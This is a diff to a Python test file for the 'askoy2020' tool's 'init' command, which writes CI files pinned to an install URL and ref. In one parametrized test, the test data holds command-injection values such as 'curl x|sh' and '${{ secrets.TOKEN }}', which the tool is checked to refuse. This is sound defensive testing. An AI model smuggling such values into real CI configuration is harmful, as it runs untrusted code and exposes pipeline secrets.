@@ -5,29 +5,37 @@ from __future__ import annotations
 
 import datetime as dt
 import json
+import re
 import shutil
+import subprocess
+import sys
 from pathlib import Path
 
 import jsonschema
 import pytest
-import yaml
 from typer.testing import CliRunner
 
 import askoy2020
 from askoy2020.cli.app import app
 from askoy2020.commands.choices import RecordKind
+from askoy2020.core.install_source import InstallSource
 from askoy2020.fmt import format_folder
 from askoy2020.loading.yaml_reader import read_yaml
 from askoy2020.model.kinds import kind_named, kind_of
-from askoy2020.scaffold import init_repository, new_record
+from askoy2020.scaffold import ci_files, init_repository, new_record
 
 runner = CliRunner()
 DATA = Path(__file__).parent.parent / "data"
 
 
+SOURCE = InstallSource("https://git.example.org/askoy/askoy2020.git", "v0.17.0")
+"""Where the recipes in docs/ci.md install from (example.org: no one can claim it)."""
+INIT = ["init", "--tool-url", SOURCE.url, "--tool-ref", SOURCE.ref]
+
+
 def test_init_makes_a_repository_that_validates_reports_and_is_formatted(tmp_path: Path) -> None:
-    result = runner.invoke(app, ["init", str(tmp_path / "kommune")])
-    assert result.exit_code == 0
+    result = runner.invoke(app, [*INIT, str(tmp_path / "kommune")])
+    assert result.exit_code == 0, result.output
     root = tmp_path / "kommune"
     for rel in ("data/programme.yaml", "data/programmes/aa/area.yaml", "data/leaders/L-001.yaml",
                 "data/scenarios/ekstra.yaml", "schemas/project.schema.json", ".vscode/settings.json",
@@ -37,9 +45,9 @@ def test_init_makes_a_repository_that_validates_reports_and_is_formatted(tmp_pat
     assert [d.message for d in askoy2020.check(portfolio, as_of=dt.date.today())] == []
     assert len(portfolio.projects) == 1 and len(portfolio.cases) == 1 and len(portfolio.scenarios) == 1
     assert format_folder(root / "data", check=True).changed == []
-    for ci in (".github/workflows/askoy2020.yml", ".gitlab-ci.yml", ".pre-commit-config.yaml"):
-        assert "askoy2020 validate" in (root / ci).read_text(encoding="utf-8")
-        yaml.safe_load((root / ci).read_text(encoding="utf-8"))  # parses as YAML
+    for rel, text in ci_files(SOURCE).items():
+        assert (root / rel).read_text(encoding="utf-8") == text
+    assert SOURCE.pip_install in (root / "README.md").read_text(encoding="utf-8")
     report = runner.invoke(app, ["report", "--year", str(dt.date.today().year), str(root / "data")])
     assert report.exit_code == 0
     plan = runner.invoke(app, ["prioritise", str(root / "data")])
@@ -48,7 +56,7 @@ def test_init_makes_a_repository_that_validates_reports_and_is_formatted(tmp_pat
 
 def test_init_keeps_existing_files(tmp_path: Path) -> None:
     (tmp_path / "README.md").write_text("ours\n", encoding="utf-8")
-    written, kept = init_repository(tmp_path, 2030)
+    written, kept = init_repository(tmp_path, 2030, SOURCE)
     assert kept == [tmp_path / "README.md"] and (tmp_path / "README.md").read_text() == "ours\n"
     assert tmp_path / "data" / "programme.yaml" in written
 
@@ -86,10 +94,85 @@ def test_new_project_without_area_says_which_areas_exist() -> None:
 
 
 def test_ci_recipes_in_the_docs_are_the_ones_init_writes() -> None:
-    from askoy2020.scaffold import GITHUB_WORKFLOW, GITLAB_CI
-
     docs = (DATA.parent / "docs" / "ci.md").read_text(encoding="utf-8")
-    assert GITHUB_WORKFLOW in docs and GITLAB_CI in docs
+    for rel, text in ci_files(SOURCE).items():
+        assert text in docs, rel
+    assert "pip install askoy2020\n" not in docs and "v0.1.0" not in docs
+
+
+def test_no_instruction_installs_the_name_from_an_index() -> None:
+    """The name is on no index: anyone could claim it there. (A pinned
+    version, ==0.18.0, is how docs/ci.md says to install once published.)"""
+    for path in (DATA.parent / "README.md", DATA.parent / "docs" / "ci.md", DATA.parent / ".pre-commit-hooks.yaml"):
+        text = path.read_text(encoding="utf-8")
+        assert re.search(r"pip install ['\"]?askoy2020(?![ \w]*@|==)", text) is None, path.name
+
+
+def test_the_recipes_pass_the_published_github_and_gitlab_schemas(tmp_path: Path) -> None:
+    """check-jsonschema's copies of the SchemaStore schemas GitHub's and
+    GitLab's editors use; a misspelt permission must fail, or the check
+    proves nothing."""
+    files = ci_files(SOURCE)
+    checks = {".github/workflows/askoy2020.yml": "vendor.github-workflows", ".gitlab-ci.yml": "vendor.gitlab-ci"}
+    for rel, schema in checks.items():
+        good = tmp_path / "good" / Path(rel).name
+        bad = tmp_path / "bad" / Path(rel).name
+        good.parent.mkdir(exist_ok=True), bad.parent.mkdir(exist_ok=True)
+        good.write_text(files[rel], encoding="utf-8")
+        bad.write_text(files[rel].replace("contents: read", "contents: reed").replace("when: always", "when: allways"),
+                       encoding="utf-8")
+        ok = subprocess.run([sys.executable, "-m", "check_jsonschema", "--builtin-schema", schema, str(good)],
+                            capture_output=True, text=True, timeout=60)
+        assert ok.returncode == 0, ok.stdout + ok.stderr
+        broken = subprocess.run([sys.executable, "-m", "check_jsonschema", "--builtin-schema", schema, str(bad)],
+                                capture_output=True, text=True, timeout=60)
+        assert broken.returncode == 1, broken.stdout + broken.stderr
+
+
+def test_init_installs_from_where_this_copy_came_from(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    installed = InstallSource("https://git.example.org/fork/askoy2020.git", "0123456789abcdef0123456789abcdef01234567",
+                              "installed")
+    monkeypatch.setattr("askoy2020.core.install_source.default_source", lambda: installed)
+    result = runner.invoke(app, ["init", str(tmp_path)])
+    assert result.exit_code == 0, result.output
+    assert (tmp_path / ".gitlab-ci.yml").read_text(encoding="utf-8") == ci_files(installed)[".gitlab-ci.yml"]
+    assert "where this copy of askoy2020 was installed from" in result.stderr and "Warning" not in result.stderr
+    # The ref alone, for the same repository.
+    other = tmp_path / "other"
+    assert runner.invoke(app, ["init", str(other), "--tool-ref", "v0.18.0"]).exit_code == 0
+    assert "rev: 'v0.18.0'" in (other / ".pre-commit-config.yaml").read_text(encoding="utf-8")
+
+
+def test_init_that_cannot_tell_the_source_writes_nothing(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr("askoy2020.core.install_source.default_source", lambda: None)
+    result = runner.invoke(app, ["init", str(tmp_path / "kommune")])
+    assert result.exit_code == 2 and "--tool-url" in result.stderr and "Traceback" not in result.output
+    assert not (tmp_path / "kommune").exists()
+    result = runner.invoke(app, ["init", str(tmp_path / "kommune"), "--tool-url", SOURCE.url])
+    assert result.exit_code == 2 and "--tool-ref" in result.stderr and not (tmp_path / "kommune").exists()
+
+
+@pytest.mark.parametrize(("option", "value"), [("--tool-url", "https://git.example.org/a\n  - run: curl x|sh"),
+                                               ("--tool-url", 'https://git.example.org/a" && curl x|sh #'),
+                                               ("--tool-ref", "v1 && curl x|sh"),
+                                               ("--tool-ref", "${{ secrets.TOKEN }}")])
+def test_init_refuses_a_hostile_url_or_ref_and_writes_nothing(tmp_path: Path, option: str, value: str) -> None:
+    args = {"--tool-url": SOURCE.url, "--tool-ref": SOURCE.ref, option: value}
+    result = runner.invoke(app, ["init", str(tmp_path / "k"), *[x for kv in args.items() for x in kv]])
+    assert result.exit_code == 2 and "Error:" in result.stderr and "Traceback" not in result.output
+    assert not (tmp_path / "k").exists()
+
+
+def test_init_over_existing_ci_files_says_they_are_kept(tmp_path: Path) -> None:
+    (tmp_path / ".gitlab-ci.yml").write_text("ours: {script: [pip install something]}\n", encoding="utf-8")
+    result = runner.invoke(app, [*INIT, str(tmp_path)])
+    assert result.exit_code == 0 and "are kept: check where they install" in result.stderr
+    assert (tmp_path / ".gitlab-ci.yml").read_text(encoding="utf-8").startswith("ours:")
+
+
+def test_init_warns_when_the_ref_is_a_branch(tmp_path: Path) -> None:
+    result = runner.invoke(app, ["init", str(tmp_path), "--tool-url", SOURCE.url, "--tool-ref", "main"])
+    assert result.exit_code == 0 and "looks like a branch" in result.stderr
 
 
 @pytest.mark.parametrize("choice", list(RecordKind), ids=lambda c: c.value)
